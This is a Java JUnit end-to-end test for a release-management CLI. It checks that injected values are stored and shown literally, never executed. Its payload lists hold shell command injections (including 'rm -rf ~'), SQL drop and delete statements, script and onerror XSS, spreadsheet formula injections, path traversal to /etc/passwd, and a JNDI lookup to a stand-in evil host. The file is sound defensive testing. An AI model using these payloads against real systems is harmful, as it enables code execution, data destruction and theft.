package io.gryt.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.gryt.testing.TempGitRepo;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Torture, injection: change titles, a generation description, step arguments and environment, and the acting
 * user carrying shell, SQL, HTML and spreadsheet-formula metacharacters go through the real commands (an
 * evolution, a promotion, exports, the status page). Nothing executes (a canary file never appears), every value
 * reads back exactly as written (from the database, the JSON outputs, the HTML a browser parses and the CSV a
 * spreadsheet reads), list-form step commands reach the program as they are, no exported CSV field starts a
 * formula, and a value the schema refuses (an id, a step or pipeline name, a title with a control character) is
 * refused on one line.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class InjectionEndToEndTest {
    static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    static Path dir;

    static Path canary;
    static List<String> titles;
    static String description;
    static final String ACTOR = "=HYPERLINK(\"http://evil.invalid\",\"x\")";
    final Map<String, String> env = new HashMap<>(System.getenv());
    final Map<String, CliRun> outputs = new HashMap<>();

    static Stream<String> payloads() {
        String touch = "touch " + canary;
        return Stream.of("$(" + touch + ")", "`" + touch + "`", "; " + touch + "; rm -rf ~", "| " + touch,
                "&& " + touch + " &", "' OR 1=1 --", "\"); DROP TABLE generations; --", "'; DELETE FROM evolutions; --",
                "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><b>bold</b>",
                "=HYPERLINK(\"http://evil.invalid\",\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
                "=1+2;=3", "${jndi:ldap://evil.invalid/a}", "{{7*7}} ${7*7} %s %n", "\\\"back\\slash\\\"");
    }

    @BeforeAll
    void aReleaseWhoseContractCarriesEveryPayload() throws Exception {
        canary = dir.resolve("pwned");
        TempGitRepo git = CliRun.initProject(dir);
        titles = payloads().toList();
        description = String.join(" | ", titles) + "\nsecond line \u001b[31mred\u001b[0m\ttab";
        env.put("GIT_COMMITTER_NAME", ACTOR);
        env.put("GIT_AUTHOR_NAME", ACTOR);
        StringBuilder changes = new StringBuilder();
        for (int i = 0; i < titles.size(); i++) {
            changes.append("  - type: fix\n    id: C-").append(i).append("\n    title: ")
                    .append(JSON.writeValueAsString(titles.get(i))).append('\n');
        }
        git.write(".gryt/generations/v1.0.0.yaml", "version: v1.0.0\ndescription: " + JSON.writeValueAsString(description)
                + "\nchanges:\n" + changes);
        List<String> argv = new ArrayList<>(List.of("echo"));
        argv.addAll(titles);
        git.write(".gryt/pipelines/ci.yaml", "name: ci\nsteps:\n  - name: literal\n    run: " + JSON.writeValueAsString(argv)
                + "\n  - name: variables\n    env: {PAYLOAD: " + JSON.writeValueAsString(titles.get(0) + titles.get(2))
                + "}\n    run: 'echo \"$PAYLOAD\"; printf \"%s\\n\" \"$GRYT_CHANGES\"'\n");
        git.commit("contract and pipeline");

        List<String> evolve = new ArrayList<>(List.of("evolution", "start", "v1.0.0"));
        for (int i = 0; i < titles.size(); i++) evolve.addAll(List.of("--change", "C-" + i));
        run("evolution", evolve.toArray(String[]::new));
        run("promote", "generation", "promote", "v1.0.0", "--json");
        run("show", "generation", "show", "v1.0.0", "--json");
        run("list", "generation", "list");
        run("evolution-show", "evolution", "show", "v1.0.0-rc.1", "--json");
        run("status", "status", "--json");
        run("status-html", "status", "--html", "status.html");
        for (String format : List.of("json", "csv", "html")) {
            run("export-" + format, "audit", "export", "--format", format, "-o", "export." + format);
        }
        run("verify", "audit", "verify");
        git.write(".gryt/pipelines/bad.yaml", "steps:\n  - name: 'x; touch " + canary + "'\n    run: [\"true\"]\n");
    }

    @AfterAll
    void nothingEverExecuted() {
        assertThat(canary).doesNotExist();
    }

    private void run(String key, String... args) {
        CliRun r = CliRun.in(env, dir, args);
        assertThat(r.exitCode()).as(key + ": " + r.all()).isZero();
        outputs.put(key, r);
    }

    @Test
    void noPayloadRanAnythingAndTheReleaseWentThrough() {
        assertThat(canary).doesNotExist();
        assertThat(outputs.get("evolution").out()).contains("v1.0.0-rc.1: pass");
        assertThat(outputs.get("verify").out()).contains("intact");
    }

    @Test
    void aListFormCommandGetsEveryArgumentAsWrittenAndAVariableIsNotEvaluatedAgain() throws Exception {
        Path runs = dir.resolve(".gryt/runs");
        List<Path> logs;
        try (Stream<Path> s = Files.walk(runs)) {
            logs = s.filter(p -> p.getFileName().toString().endsWith(".log")).toList();
        }
        String literal = Files.readString(logs.stream().filter(p -> p.endsWith("literal.log")).findFirst().orElseThrow());
        assertThat(literal).isEqualTo(String.join(" ", titles) + "\n");
        String variables = Files.readString(logs.stream().filter(p -> p.endsWith("variables.log")).findFirst().orElseThrow());
        assertThat(variables).startsWith(titles.get(0) + titles.get(2) + "\n");
    }

    @Test
    void theDatabaseHoldsEveryValueExactlyAndItsTablesAreIntact() throws Exception {
        try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + dir.resolve(".gryt/gryt.db"));
             Statement s = c.createStatement()) {
            List<String> stored = new ArrayList<>();
            try (ResultSet rs = s.executeQuery("SELECT title FROM generation_changes ORDER BY position")) {
                while (rs.next()) stored.add(rs.getString(1));
            }
            assertThat(stored).containsExactlyElementsOf(titles);
            try (ResultSet rs = s.executeQuery("SELECT description FROM generations")) {
                assertThat(rs.next()).isTrue();
                assertThat(rs.getString(1)).isEqualTo(description);
            }
            try (ResultSet rs = s.executeQuery("SELECT count(*) FROM evolutions")) {
                assertThat(rs.getInt(1)).isEqualTo(1);
            }
        }
        CliRun query = CliRun.in(env, dir, "db", "query", "SELECT count(*) AS n FROM generation_changes", "--json");
        assertThat(query.exitCode()).as(query.all()).isZero();
        assertThat(query.out()).contains(Integer.toString(titles.size()));
    }

    @Test
    void theJsonOutputsCarryEveryValueExactly() throws Exception {
        JsonNode show = JSON.readTree(outputs.get("show").out());
        assertThat(show.get("description").asText()).isEqualTo(description);
        assertThat(textsUnder(show)).containsAll(titles);
        assertThat(textsUnder(JSON.readTree(outputs.get("promote").out()))).contains("v1.0.0");
        JsonNode export = JSON.readTree(Files.readString(dir.resolve("export.json")));
        assertThat(textsUnder(export)).containsAll(titles).contains(description);
        JSON.readTree(outputs.get("evolution-show").out());
        JSON.readTree(outputs.get("status").out());
    }

    @Test
    void theHtmlPagesShowEveryValueAsTextAndGainNoElement() throws Exception {
        for (String page : List.of("export.html", "status.html")) {
            Document doc = Jsoup.parse(Files.readString(dir.resolve(page)));
            assertThat(doc.select("script")).as(page).isEmpty();
            assertThat(doc.select("img")).as(page).isEmpty();
            assertThat(doc.select("[onerror]")).as(page).isEmpty();
            assertThat(doc.select("b:containsOwn(bold)")).as(page).isEmpty();
        }
        Document export = Jsoup.parse(Files.readString(dir.resolve("export.html")));
        String text = export.text();
        for (String title : titles) assertThat(text).as("export.html shows %s", title).contains(title);
        assertThat(export.select("*").eachText()).anyMatch(t -> t.contains(ACTOR));
    }

    @Test
    void noCsvFieldStartsAFormulaAndThePayloadsReadBackExactly() throws Exception {
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(Files.readString(dir.resolve("export.csv")))).getRecords();
        assertThat(rows).isNotEmpty();
        List<String> payloadTexts = new ArrayList<>();
        for (CSVRecord row : rows) {
            for (String field : row) {
                assertThat(field).as("row %d", row.getRecordNumber()).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
            assertThat(row.get("actor")).isEqualTo("'" + ACTOR + " <test@gryt.invalid>");
            payloadTexts.addAll(textsUnder(JSON.readTree(row.get("payload"))));
        }
        assertThat(payloadTexts).containsAll(titles).contains(description);
    }

    @Test
    void plainOutputShowsControlCharactersEscaped() {
        String list = outputs.get("list").out();
        assertThat(list).doesNotContain("\u001b").contains("v1.0.0");
    }

    static Stream<List<String>> refusedValues() {
        return Stream.of(
                List.of("generation", "new", "v2.0.0", "--change", "fix:$(touch pwned):title"),
                List.of("generation", "new", "v2.0.0", "--change", "fix:A-1;rm -rf x:title"),
                List.of("generation", "new", "v2.0.0", "--change", "fix:' OR 1=1 --:title"),
                List.of("generation", "new", "v2.0.0", "--change", "fix:A-1:two\nlines"),
                List.of("generation", "new", "v2.0.0", "--change", "fix:A-1:\u001b[2Jwiped"),
                List.of("generation", "show", "v1.0.0'; DROP TABLE generations; --"),
                List.of("evolution", "show", "v1.0.0-rc.1' OR '1'='1"),
                List.of("run", "../../etc/passwd"),
                List.of("run", "$(touch pwned)"),
                List.of("run", "bad"));
    }

    @ParameterizedTest
    @MethodSource("refusedValues")
    void aValueTheSchemaRefusesIsRefusedOnOneLine(List<String> args) {
        CliRun r = CliRun.in(env, dir, args.toArray(String[]::new));
        assertThat(r.exitCode()).as(r.all()).isEqualTo(2);
        assertThat(r.out()).isEmpty();
        assertThat(r.err().lines().toList()).as(r.err()).hasSize(1).allMatch(l -> l.startsWith("gryt: error: "));
        assertThat(r.err()).doesNotContain("\u001b", "\tat ");
        assertThat(canary).doesNotExist();
        assertThat(dir.resolve(".gryt/generations/v2.0.0.yaml")).doesNotExist();
    }

    /** Every text value anywhere in {@code node}. */
    static List<String> textsUnder(JsonNode node) {
        List<String> texts = new ArrayList<>();
        collect(node, texts);
        return texts;
    }

    private static void collect(JsonNode node, List<String> into) {
        if (node.isTextual()) into.add(node.asText());
        node.forEach(child -> collect(child, into));
    }
}
